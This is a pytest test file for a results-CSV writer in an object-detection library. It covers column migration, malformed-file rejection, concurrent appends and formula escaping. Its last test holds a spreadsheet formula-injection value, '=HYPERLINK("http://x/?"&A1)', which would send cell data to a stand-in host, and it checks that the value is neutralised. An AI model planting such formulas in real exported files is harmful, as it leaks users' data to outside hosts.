"""The results file that every engine appends to."""

from __future__ import annotations

import csv
import multiprocessing
import os
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from scaleprior.backbones.card import Card
from scaleprior.backbones.trunks.resnet.spec import ResNetSpec
from scaleprior.config import get_cfg
from scaleprior.detect import results_file
from scaleprior.detect.identity import tuning_of
from scaleprior.detect.metrics import DetectionResult
from scaleprior.detect.results_file import COLUMNS, append_result
from scaleprior.detect.trained import TrainedDetector
from scaleprior.errors import UserError
from scaleprior.laws.results_csv import read_cells
from scaleprior.laws.table import read_table
from scaleprior.provenance import CreatedBy

RESULT = DetectionResult(12.3456789, 30.0, 8.0, None, 10.0, 20.0, per_class={})
CARD = Card(
    "b", ResNetSpec(152), (0.0, 0.0, 0.0), (1.0, 1.0, 1.0), "RGB", images=1000, tensors_sha256="ff",
)  # fmt: skip


def config(*words: Any) -> Any:
    cfg = get_cfg()
    cfg.merge_from_list(["DATASETS.TEST", ("mine",), *words])
    return cfg


def trained(run: str, card: Card | None = CARD, tuning: Mapping[str, Any] | None = None) -> TrainedDetector:
    return TrainedDetector(
        *(("cat",), (1,), {}, card, 3, 9, run, CreatedBy(version="1", commit="c")), tuning=tuning or {}
    )


def append(path: Path, run: str, *, cfg: Any = None, card: Card | None = CARD) -> None:
    append_result(
        *(path, {"mine": RESULT}), cfg=cfg or config(), engine="torchvision", trained=trained(run, card), model="m"
    )


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as file:
        return list(csv.DictReader(file))


def test_a_row_an_evaluation_and_laws_read_it(tmp_path: Path) -> None:
    path = tmp_path / "new" / "all.csv"
    append(path, "a")
    append(path, "b", card=replace(CARD, images=4000))
    append(path, "c", card=None)
    append(path, "a")  # evaluated once more
    found = rows(path)
    assert tuple(found[0]) == COLUMNS
    assert sorted((row["run"], row["images"], row["seed"]) for row in found) == [
        ("a", "1000", "3"), ("b", "4000", "3"), ("c", "0", "3"),
    ]  # fmt: skip
    assert (found[0]["ap"], found[0]["ap_small"], found[0]["arch"]) == ("12.345679", "", "R-152")
    assert [found[0][c] for c in ("backbone", "tensors_sha256", "max_iter", "version", "commit")] == [
        "b", "ff", "9", "1", "c",
    ]  # fmt: skip
    table = read_table(path)
    assert sorted(table.series["R-152"].images) == [1000.0, 4000.0]
    assert table.from_scratch == {"R-50": [12.345679]}


def test_several_sets_are_several_rows(tmp_path: Path) -> None:
    cfg = config("DATASETS.TEST", ("one", "two"))
    by_set = {"one": RESULT, "two": replace(RESULT, ap=1.0)}
    append_result(tmp_path / "r.csv", by_set, cfg=cfg, engine="x", trained=trained("r"), model="m")
    assert [(row["dataset"], row["ap"]) for row in rows(tmp_path / "r.csv")] == [("one", "12.345679"), ("two", "1.0")]


def test_nothing_known_of_the_training_is_not_from_scratch(tmp_path: Path) -> None:
    for _ in range(2):
        append_result(
            *(tmp_path / "r.csv", {"mine": RESULT}), cfg=config(), engine="x", trained=None, model=Path("m.pth")
        )
    (row,) = rows(tmp_path / "r.csv")
    assert (row["images"], row["seed"], row["version"], row["run"]) == ("", "", "", "m.pth")
    with pytest.raises(UserError, match="column 'images'"):
        read_table(tmp_path / "r.csv")


def test_detectors_on_one_backbone_are_told_apart(tmp_path: Path) -> None:
    cfg = config()
    append(tmp_path / "r.csv", "faster", cfg=cfg)
    cfg.MODEL.META_ARCHITECTURE, cfg.MODEL.MASK_ON = "GeneralizedRCNN", True  # Detectron2's configs have these
    append(tmp_path / "r.csv", "mask", cfg=cfg)
    cfg.MODEL.ROI_HEADS.NAME = "CascadeROIHeads"
    append(tmp_path / "r.csv", "cascade", cfg=cfg)
    cfg.MODEL.META_ARCHITECTURE, cfg.MODEL.MASK_ON = "RetinaNet", False
    append(tmp_path / "r.csv", "retina", cfg=cfg)
    cfg.MODEL.META_ARCHITECTURE, cfg.MODEL.ROI_HEADS.NAME = "GeneralizedRCNN", "StandardROIHeads"
    append(tmp_path / "r.csv", "dc5", cfg=cfg)
    cfg.MODEL.BACKBONE.NAME, cfg.MODEL.KEYPOINT_ON = "build_timm_fpn_backbone", True
    append(tmp_path / "r.csv", "keypoints", cfg=cfg)
    builder = "build_resnet_backbone"
    assert [row["detector"] for row in rows(tmp_path / "r.csv")] == [
        builder, f"{builder}+masks", f"{builder}+CascadeROIHeads+masks", f"{builder}+RetinaNet",
        f"{builder}+StandardROIHeads", "build_resnet_fpn_backbone+keypoints",
    ]  # fmt: skip


def test_a_row_says_how_the_detector_was_tuned_and_which_ladder_its_backbone_is_of(tmp_path: Path) -> None:
    cfg = config("SOLVER.IMS_PER_BATCH", 8)
    record = trained("r", replace(CARD, corpus={"name": "photos"}), tuning_of(cfg))
    other = config("SOLVER.IMS_PER_BATCH", 2)  # an evaluation may name another config: training said what it was
    append_result(tmp_path / "r.csv", {"mine": RESULT}, cfg=other, engine="x", trained=record, model="m")
    (row,) = rows(tmp_path / "r.csv")
    assert [row[c] for c in ("batch_size", "base_lr", "freeze_at", "norm", "trained_on", "corpus", "recipe")] == [
        "8", "0.001", "2", "FrozenBN", "", "photos", "",
    ]  # fmt: skip
    assert (row["settings"], row["detector_settings"]) == tuple(tuning_of(cfg).values())[-2:]


def test_a_measurement_under_other_settings_is_another_row(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    append(path, "a")
    append(path, "a", cfg=config("INPUT.MIN_SIZE_TEST", 400))
    append(path, "a")
    assert len(rows(path)) == 2
    assert len({row["test_settings"] for row in rows(path)}) == 2


OLD = """arch,images,seed,ap,ap50,ap75,ap_small,ap_medium,ap_large,engine,dataset,backbone,tensors_sha256,detector,\
max_iter,version,commit,run
R-152,1000,3,11.0,30.0,8.0,,10.0,20.0,torchvision,mine,b,ff,build_resnet_backbone,9,0,c,{}
"""


def test_a_file_of_before_is_read_and_gets_the_new_columns_with_empty_cells(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    path.write_text(OLD.format("old"))
    append(path, "new")
    old, new = rows(path)
    assert tuple(old) == COLUMNS
    assert old == {**dict.fromkeys(COLUMNS, ""), **next(csv.DictReader(OLD.format("old").splitlines()))}
    assert (new["run"], len(new["test_settings"])) == ("new", 8)
    path.write_text(OLD.format("a"))
    append(path, "a")  # evaluated once more, now in the newer words
    (row,) = rows(path)
    assert row["ap"] == "12.345679"


@pytest.mark.parametrize("header", [OLD.split(",version")[0], ",".join((*COLUMNS, "more"))], ids=["less", "more"])
def test_neither_fewer_nor_more_columns_are_ours(tmp_path: Path, header: str) -> None:
    path = tmp_path / "r.csv"
    path.write_text(f"{header}\n")
    with pytest.raises(UserError, match="has other columns than these rows"):
        append(path, "r")


def test_a_row_with_a_cell_too_many_is_named(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    path.write_text(OLD.format("a,b"))
    with pytest.raises(UserError, match=r"r\.csv, line 2: more cells than columns; repair"):
        append(path, "r")
    assert path.read_text() == OLD.format("a,b")


def test_runs_that_end_at_once_lose_nothing(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    context = multiprocessing.get_context("fork")
    processes = [context.Process(target=append, args=(path, str(number))) for number in range(8)]
    for process in processes:
        process.start()
    for process in processes:
        process.join(60)
    assert sorted(row["run"] for row in rows(path)) == [str(number) for number in range(8)]


def test_a_file_of_another_kind_is_left_alone(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    path.write_text("a,b\n1,2\n")
    with pytest.raises(UserError, match=r"r\.csv has other columns than these rows: a, b; name another file"):
        append(path, "r")
    assert path.read_text() == "a,b\n1,2\n"


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (",".join(COLUMNS).encode() + b"\n" + b"x" * 200_000, "line 2: cannot be read: field larger"),
        (b"\xff\xfe", "'utf-8' codec"),
        (b"a\0", "null character"),
        (",".join(COLUMNS).encode() + b"\n" + b"1," * 100, "line 2: more cells than columns"),
        (b"a," * 50_000, "has other columns than these rows: 'a, a, "),
    ],
)
def test_no_row_is_added_to_what_is_no_results_file(tmp_path: Path, content: bytes, words: str) -> None:
    path = tmp_path / "results.csv"
    path.write_bytes(content)
    with pytest.raises(UserError, match=r"SCALEPRIOR.RESULTS:") as caught:
        results_file._read(path)
    assert words in str(caught.value)
    assert len(str(caught.value)) < 2000
    os.mkfifo(tmp_path / "fifo")
    with pytest.raises(UserError, match="is a pipe"):
        results_file._read(tmp_path / "fifo")


def test_a_name_that_a_spreadsheet_would_calculate_stays_one_name(tmp_path: Path) -> None:
    """However often the file is written again; the row is found by it, and laws read it as it is."""
    path, name = tmp_path / "r.csv", '=HYPERLINK("http://x/?"&A1)'
    for run in ("=a", "b", "=a"):
        append(path, run, card=replace(CARD, name=name))
    assert [(row["run"], row["backbone"]) for row in rows(path)] == [("b", f"'{name}"), ("'=a", f"'{name}")]
    assert [cells["backbone"] for _, cells in read_cells(path)[1]] == [name, name]
